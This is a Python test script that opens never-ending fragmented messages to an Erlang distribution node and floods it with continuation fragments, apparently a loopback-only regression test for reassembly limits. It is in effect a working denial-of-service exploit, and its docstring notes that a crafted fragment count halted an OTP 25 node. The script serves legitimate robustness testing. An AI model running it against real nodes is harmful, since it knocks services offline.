#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""fragflood.py - open fragment sequences that never end (issue 26, item 3),
for t_reassembly.sh.

    fragflood.py PORT NAME COOKIE TO SEQS MIB [FRAGID]

After a full handshake as NAME (craft.py's Session), opens SEQS fragmented
sends to the registered name TO, each a first fragment that ends inside a
binary said to be 1 GiB long (so that it is judged on its first bytes),
then sends 64 KiB continuation fragments to them in turn, MIB MiB in all,
never a last one; each first fragment announces FRAGID fragments (100;
2^40 asks the receiver to set up that many at once, which halted an
OTP 25 node).  Stops early when the connection closes.  Prints
"sent BYTES" and "closed" or "open".  Loopback only.
"""
import os
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import craft  # noqa: E402
from craft import t_atom, t_int, t_tuple, Session  # noqa: E402

CHUNK = 65536


def main():
    port, name, cookie, to = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
    seqs, mib = int(sys.argv[5]), int(sys.argv[6])
    flags = craft.F_OTP25 & ~craft.F_PUBLISHED
    S = Session(port, name, cookie, flags, None)
    if not S.frags:
        print("no FRAGMENTS negotiated")
        return
    ctl = t_tuple(t_int(6), S.pid, t_atom(""), t_atom(to))
    frag = int(sys.argv[7]) if len(sys.argv) > 7 else 100
    for i in range(seqs):
        first = ctl + t_tuple(S.pid, b"\x6d" + struct.pack(">I", 1 << 30) + b"a" * 1000)
        S.frame(b"\x83\x45" + struct.pack(">QQ", 5000 + i, frag) + b"\x00" + first)
    sent = 0
    k = 0
    body = b"z" * CHUNK
    total = mib << 20
    try:
        while sent < total and not S.eof and k // seqs < frag - 2:
            i = k % seqs
            fid = frag - 1 - k // seqs
            S.frame(b"\x83\x46" + struct.pack(">QQ", 5000 + i, fid) + body)
            sent += CHUNK
            k += 1
    except OSError as e:
        print("send: %s" % e)
    print("sent %d" % sent)
    t0 = time.time()
    while time.time() - t0 < 5 and not S.eof:
        time.sleep(0.1)
    print("closed" if S.eof else "open")
    sys.stdout.flush()
    if not S.eof:
        time.sleep(float(os.environ.get("FRAGFLOOD_HOLD", "0")))


if __name__ == "__main__":
    main()
